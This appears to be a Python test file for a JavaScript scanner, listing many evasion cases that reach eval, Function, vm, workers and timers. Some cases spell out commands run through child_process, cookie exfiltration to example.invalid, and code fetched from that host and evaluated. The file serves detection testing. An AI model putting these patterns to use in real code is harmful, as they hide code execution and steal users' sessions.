"""Roads to what executes text: eval and Function by every name, timers, vm, modules and threads made of text."""

from tests.evasion_javascript.case import HIGH, MEDIUM, Case

EVALS = (
    Case("eval", "STDLIB-001", MEDIUM, r"""
        eval("<CODE>");
    """),
    Case("eval after a comma", "STDLIB-001", MEDIUM, r"""
        (0, eval)("<CODE>");
    """),
    Case("eval by another name", "STDLIB-001", MEDIUM, r"""
        const run = eval;
        run("<CODE>");
    """),
    Case("eval out of an array", "STDLIB-001", MEDIUM, r"""
        [console.log, eval].pop()("<CODE>");
    """),
    Case("eval by call and apply", "STDLIB-001", MEDIUM, r"""
        eval.call(null, "1");
        eval.apply(null, ["<CODE>"]);
    """),
    Case("eval as a callback of map", "STDLIB-001", MEDIUM, r"""
        ["<CODE>"].map(eval);
    """),
    Case("eval as a callback of a promise", "STDLIB-001", MEDIUM, r"""
        Promise.resolve("<CODE>").then(eval);
    """),
    Case("eval as a callback of replace", "STDLIB-001", MEDIUM, r"""
        "<CODE>".replace(/.+/, eval);
    """),
    Case("eval as a reviver of JSON", "STDLIB-001", MEDIUM, r"""
        JSON.parse('["<HEX>"]', (key, value) => (key ? eval(Buffer.from(value, "hex").toString()) : value));
    """),
    Case("eval of the global object by a name in pieces", "DYN-005 STR-001", HIGH, r"""
        globalThis["ev" + "al"]("<CODE>");
    """),
    Case("eval of global by a name in pieces", "DYN-005 STR-001", HIGH, r"""
        const e = ["e", "v", "a", "l"];
        global[e.join("")]("<CODE>");
    """),
    Case("eval of what this is in a function", "DYN-005 STR-001", HIGH, r"""
        (function () { return this; })()["l" + "ave".slice(0, 0) && "lave".split("").reverse().join("")]("<CODE>");
    """),
    Case("eval of the global object by way of Function", "DYN-005 STR-001", HIGH, r"""
        const root = Function("return this")();
        root["ev".concat("al")]("<CODE>");
    """),
    Case("eval of eval", "STDLIB-001", MEDIUM, r"""
        eval("ev" + "al")("<CODE>");
    """),
    Case("Function", "STDLIB-001", MEDIUM, r"""
        Function("<CODE>")();
    """),
    Case("new Function with arguments", "STDLIB-001", MEDIUM, r"""
        new Function("load", "load('child_process').execSync('id')")(require);
    """),
    Case("new Function, several names in one text", "STDLIB-001", MEDIUM, r"""
        new Function("a, b", "b('child_process')[a]('id')").call(null, "execSync", require);
    """),
    Case("Function out of a variable", "STDLIB-001", MEDIUM, r"""
        const Make = Function;
        Make("<CODE>")();
    """),
    Case("Function by a function's constructor", "STDLIB-001 DYN-005", MEDIUM, r"""
        (function () {}).constructor("<CODE>")();
    """),
    Case("Function by an arrow's constructor", "STDLIB-001 DYN-005", MEDIUM, r"""
        (() => {})["constructor"]("<CODE>")();
    """),
    Case("Function by an array's method", "STDLIB-001 DYN-005", MEDIUM, r"""
        [].filter.constructor("<CODE>")();
    """),
    Case("Function by the constructor of a constructor", "STDLIB-001 DYN-005", MEDIUM, r"""
        [].constructor.constructor("<CODE>")();
        ""["constructor"]["constructor"]("<CODE>")();
    """),
    Case("Function by a constructor's name in pieces", "DYN-005 STR-001", HIGH, r"""
        const key = "const" + "ructor";
        []["fl" + "at"][key]("<CODE>")();
    """),
    Case("Function by its prototype", "STDLIB-001 DYN-005", MEDIUM, r"""
        Object.getPrototypeOf(function () {}).constructor("<CODE>")();
    """),
    Case("AsyncFunction", "STDLIB-001 DYN-005", MEDIUM, r"""
        const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
        new AsyncFunction("<CODE>")();
    """),
    Case("AsyncFunction by constructor", "STDLIB-001 DYN-005", MEDIUM, r"""
        (async () => {}).constructor("await 0; <CODE>")();
    """),
    Case("GeneratorFunction", "STDLIB-001 DYN-005", MEDIUM, r"""
        const made = (function* () {}).constructor("yield <CODE>");
        made().next();
    """),
    Case("AsyncGeneratorFunction", "STDLIB-001 DYN-005", MEDIUM, r"""
        const made = Object.getPrototypeOf(async function* () {}).constructor("yield <CODE>");
        made().next();
    """),
    Case("Reflect.construct", "STDLIB-001", MEDIUM, r"""
        Reflect.construct(Function, ["<CODE>"])();
    """),
    Case("Reflect.apply", "STDLIB-001", MEDIUM, r"""
        Reflect.apply(eval, null, ["<CODE>"]);
        Reflect.apply(Function, null, ["<CODE>"])();
    """),
    Case("Function by bind", "STDLIB-001", MEDIUM, r"""
        Function.bind(null, "<CODE>")()();
    """),
    Case("a class that extends Function", "STDLIB-001", MEDIUM, r"""
        class Run extends Function { constructor(text) { super(text); } }
        new Run("<CODE>")();
    """, unseen="an object of a class that extends Function is not taken for a function"),
    Case("setTimeout with text", "FETCH-001", HIGH, r"""
        window.setTimeout("fetch('https://example.invalid/a').then(r => r.text()).then(eval)", 10);
    """),
    Case("setInterval with text in pieces", "FETCH-001 EXFIL-001", HIGH, r"""
        setInterval("fetch('https://example" + ".invalid/?' + document.cookie)", 1e4);
    """),
    Case("vm.runInThisContext", "STDLIB-001", MEDIUM, r"""
        require("vm").runInThisContext("<CODE>");
    """),
    Case("vm.runInNewContext", "STDLIB-001", MEDIUM, r"""
        const vm = require("node:vm");
        vm.runInNewContext("load('child_process').execSync('id')", { load: require });
    """),
    Case("vm.Script", "STDLIB-001", MEDIUM, r"""
        const { Script, createContext } = require("vm");
        new Script("<CODE>").runInContext(createContext({ process }));
    """),
    Case("vm.compileFunction", "STDLIB-001", MEDIUM, r"""
        require("vm").compileFunction("return load('child_process').execSync('id')", ["load"])(require);
    """),
    Case("module._compile", "STDLIB-001", MEDIUM, r"""
        module._compile("require('child_process').execSync('id')", "a.js");
    """),
    Case("a new module's _compile", "STDLIB-001", MEDIUM, r"""
        const Module = require("module");
        const made = new Module("made", module);
        made._compile("require('child_process').execSync('id')", "made.js");
    """),
    Case("require.extensions", "STDLIB-001", MEDIUM, r"""
        const fs = require("fs");
        require.extensions[".dat"] = (m, path) => m._compile("require('child_process').execSync('id')", path);
        require("./a.dat");
    """, files={"a.dat": "a\n"}, unseen="functions that are put into require.extensions are not called with a module"),
    Case("a worker of text", "STDLIB-001", MEDIUM, r"""
        const { Worker } = require("worker_threads");
        new Worker("require('child_process').execSync('id')", { eval: true });
    """),
    Case("a worker of an address that holds code", "STDLIB-001 DYN ENC", MEDIUM, r"""
        import { Worker } from "node:worker_threads";
        new Worker(new URL("data:text/javascript,import cp from 'child_process'; cp.execSync('id')"));
    """, "index.mjs"),
    Case("a worker of a blob", "FETCH-001 EXFIL-001", HIGH, r"""
        const blob = new Blob(["fetch('https://example.invalid/a').then(r => r.text()).then(eval)"]);
        new Worker(URL.createObjectURL(blob));
    """),
    Case("node -e", "STDLIB-001", MEDIUM, r"""
        require("child_process").spawn(process.execPath, ["-e", "require('child_process').execSync('id')"]);
    """),
    Case("a script put into the page", "FETCH-001 DYN STDLIB-002", MEDIUM, r"""
        const tag = document.createElement("script");
        tag.src = "https://example.invalid/a.js";
        document.head.appendChild(tag);
    """),
    Case("an event handler's attribute", "ENC-001 DYN STDLIB-002", MEDIUM, r"""
        const tag = document.createElement("img");
        tag.setAttribute("onerror", "fetch('https://example.invalid/?' + document.cookie)");
        tag.src = "x";
    """),
    Case("eval of a getter of its own", "STDLIB-001", MEDIUM, r"""
        const holder = { get code() { return "<CODE>"; } };
        eval(holder.code);
    """),
    Case("eval in the scope of a function", "STDLIB-001", MEDIUM, r"""
        function run(load) { return eval("load('child_process').execSync('id')"); }
        run(require);
    """),
    Case("eval that makes a function", "STDLIB-001", MEDIUM, r"""
        const run = eval("(function (load) { load('child_process').execSync('id'); })");
        run(require);
    """),
    Case("eval in eval", "STDLIB-001", MEDIUM, r"""
        eval("eval(\"eval('process.mainModule.require(`child_process`).execSync(`id`)')\")");
    """),
    Case("a template as the code", "STDLIB-001", MEDIUM, r"""
        const name = "child_process";
        eval(`require("${name}").execSync("id")`);
    """),
)  # fmt: skip
